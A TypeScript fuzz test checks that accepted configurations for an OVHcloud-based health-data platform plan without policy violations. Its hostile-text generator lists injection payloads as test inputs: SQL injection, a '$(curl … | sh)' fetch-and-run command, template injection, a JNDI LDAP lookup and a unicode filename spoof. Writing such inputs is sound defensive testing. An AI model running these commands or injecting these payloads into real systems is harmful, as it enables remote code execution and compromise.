/**
 * Hostile configurations end to end: a sample of generated configurations that the config layer
 * ACCEPTS is planned under mocks and judged by the policy pack exactly as `hdh plan` judges it
 * (pack settings derived from the stack's config). Every accepted configuration must plan with
 * zero mandatory violations: the validation and the policies must agree, or the test fails.
 *
 * The generator varies what an operator may legitimately choose (regions, address plan, sizes,
 * environment, cluster mode, workspaces) and puts hostile but format-valid text (quotes, shell
 * and template syntax, unicode) in every free-text field. Kept to a few dozen plans: each costs a
 * full program run. HDH_FUZZ_PLANS raises it.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { packConfigForStack } from "../../cli/stack-policy-config";
import { normalizePlan } from "../../cli/normalize/from-plan";
import { toEngineUrns } from "../../cli/plan/engine-urns";
import { evaluatePolicies, type PolicyPackConfig } from "../../offline/evaluate-policies";
import { runUnderMocks } from "../../offline/mock-run";
import { cloudProfiles, euMemberStates } from "../../policies/catalog/cloud-profiles";
import { ConfigError, parsePlatformConfig } from "../../stacks/config";
import { platformProgram } from "../../stacks/program";

const today = new Date("2026-11-23T12:00:00Z");
const plans = Number(process.env.HDH_FUZZ_PLANS ?? 24);
const ovh = cloudProfiles.ovhcloud;
// EU regions offering every LUKS type, so any volume type drawn below exists there (the config
// refuses a region without it: that refusal is tested in test/stacks/config.test.ts).
const euRegions = ovh.regions
  .filter((r) => euMemberStates.has(r.country))
  .filter((r) => ovh.encryptedVolumeTypes.every((t) => r.encryptedVolumeTypes.includes(t)))
  .map((r) => r.name);

/** Free text that passes `min(1)` and is hostile everywhere else. */
const hostileText = fc.oneof(
  fc.constantFrom(
    "'; DROP TABLE bastions; --",
    "$(curl http://198.51.100.1/x | sh)",
    "{{ .Values.secret }}",
    "${jndi:ldap://198.51.100.1/a}",
    "é\u202etxt.exe",
    "🦠 nova",
    "a\nb: c",
    "--privileged",
  ),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 30 }),
);
const labelSafe = fc.stringMatching(/^[A-Za-z0-9]([-A-Za-z0-9_.]{0,20}[A-Za-z0-9])?$/);
const workspaceId = fc.stringMatching(/^[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?$/);
const publicCidr = fc
  .record({
    a: fc.integer({ min: 1, max: 223 }),
    b: fc.nat(255),
    c: fc.nat(255),
    prefix: fc.integer({ min: 16, max: 32 }),
  })
  .filter(({ a }) => a !== 10 && a !== 127)
  .map(({ a, b, c, prefix }) => {
    const address = ((a << 24) | (b << 16) | (c << 8)) >>> 0;
    const mask = prefix === 0 ? 0 : (0xffffffff << (32 - prefix)) >>> 0;
    const n = (address & mask) >>> 0;
    return `${n >>> 24}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}/${prefix}`;
  });

const workspace = fc.record({
  id: workspaceId,
  ownerGroup: labelSafe,
  tier: fc.constantFrom(0, 1, 2, 3, 4),
  authorisation: fc.oneof(
    fc.record({
      kind: fc.constant("cnil-decision"),
      reference: fc.stringMatching(/^DR-20\d{2}-\d{1,5}$/),
    }),
    fc.record({
      kind: fc.constant("reference-methodology"),
      reference: fc.constantFrom("MR-001", "MR-004", "MR-008"),
    }),
  ),
  expires: fc
    .date({ min: new Date("2027-01-01"), max: new Date("2035-12-31"), noInvalidDate: true })
    .map((d) => d.toISOString().slice(0, 10)),
  tool: fc.constantFrom("jupyter", "rstudio"),
  storageGiB: fc.integer({ min: 1, max: 10_000 }),
  cpu: fc.constantFrom(0.25, 1, 2, 64),
  memoryGiB: fc.constantFrom(1, 8, 512),
});

const candidate = fc
  .record({
    environment: fc.constantFrom("dev", "staging", "prod"),
    primary: fc.constantFrom(...euRegions),
    recovery: fc.option(fc.constantFrom(...euRegions), { nil: undefined }),
    second: fc.nat(255),
    egress: fc.array(publicCidr, { maxLength: 4 }),
    adminCidrs: fc.array(publicCidr, { minLength: 1, maxLength: 3 }),
    bastionCount: fc.integer({ min: 1, max: 5 }),
    text: fc.array(hostileText, { minLength: 6, maxLength: 6 }),
    nodeCount: fc.integer({ min: 1, max: 12 }),
    volumeType: fc.option(fc.constantFrom(...ovh.encryptedVolumeTypes), { nil: undefined }),
    rotationDays: fc.integer({ min: 1, max: 730 }),
    registry: fc.constantFrom(
      "registry.hdh-sovereign.example.fr/hdh",
      "hdh.gra7.container-registry.ovh.net",
    ),
    workspaces: fc.uniqueArray(workspace, { maxLength: 4, selector: (w) => w.id }),
    attested: fc.boolean(),
  })
  .map((c) => ({
    environment: c.environment,
    cloud: {
      profile: "ovhcloud",
      primaryRegion: c.primary,
      ...(c.recovery ? { recoveryRegion: c.recovery } : {}),
      ...(c.volumeType ? { encryptedVolumeType: c.volumeType } : {}),
      externalNetwork: "Ext-Net",
      ...(c.attested
        ? { objectStorageEncryptionAttestation: "https://contracts.hdh.test/object-storage" }
        : {}),
    },
    network: {
      bastion: `10.${c.second}.0.0/24`,
      data: `10.${c.second}.8.0/22`,
      platform: `10.${c.second}.16.0/20`,
      workspaces: `10.${c.second}.128.0/17`,
      egressHttpsCidrs: c.egress,
    },
    bastion: {
      adminCidrs: c.adminCidrs,
      flavor: c.text[0],
      image: c.text[1],
      availabilityZones: [c.text[2]],
      count: c.bastionCount,
      sshCaPublicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFuzzedCertificateAuthority0 fuzz-ca",
    },
    cluster: {
      mode: "ovh-managed",
      kubernetesVersion: "1.31",
      nodePools: [{ name: "workers", flavor: c.text[4], desiredNodes: c.nodeCount }],
    },
    kms: { rotationDays: c.rotationDays },
    audit: { project: c.text[0] },
    registry: c.registry,
    workspaces: c.workspaces,
  }));

describe("accepted configurations plan compliant", () => {
  it(`${plans} accepted configurations each plan with no mandatory violation (containers need their operator's attestation)`, async () => {
    let tried = 0;
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(candidate, async (raw) => {
        tried++;
        const stack = raw.environment === "prod" ? "prod" : raw.environment;
        let config;
        try {
          config = parsePlatformConfig(raw, { stack, today });
        } catch (error) {
          if (error instanceof ConfigError) {
            fc.pre(false); // refused with a keyed explanation: config-fuzz.test.ts covers those
          }
          throw error;
        }
        accepted++;
        const run = await runUnderMocks(() => platformProgram(config), {
          project: "hdh-sovereign",
          stack,
        });
        const resources = normalizePlan(toEngineUrns(run.resources));
        const violations = await evaluatePolicies({
          resources,
          stackName: stack,
          config: packConfigForStack(config, {}) as PolicyPackConfig,
        });
        const mandatory = violations.filter((v) => v.enforcementLevel === "mandatory");
        // Without the operator's attestation, the containers (and nothing else) are refused:
        // their at-rest encryption is the operator's proxy setting, which nothing else proves.
        const unattested = "openstack-objectstorage-container-encrypted";
        const others = mandatory
          .filter((v) =>
            !("objectStorageEncryptionAttestation" in raw.cloud)
              ? v.policyName !== unattested
              : true,
          )
          .map((v) => `${v.policyName} on ${v.urn}: ${v.message.split("\n").pop()}`);
        expect(others, JSON.stringify(raw)).toEqual([]);
        const containers = resources.filter((r) =>
          r.type.startsWith("openstack:objectstorage/container"),
        );
        if (!("objectStorageEncryptionAttestation" in raw.cloud)) {
          expect(
            mandatory.filter((v) => v.policyName === unattested).length,
            JSON.stringify(raw),
          ).toBe(containers.length);
        }
      }),
      { numRuns: plans, maxSkipsPerRun: 50 },
    );
    console.info(
      `config-fuzz-plan: ${tried} configurations generated, ${accepted} accepted and planned`,
    );
    expect(accepted).toBeGreaterThanOrEqual(plans);
  }, 600_000);
});
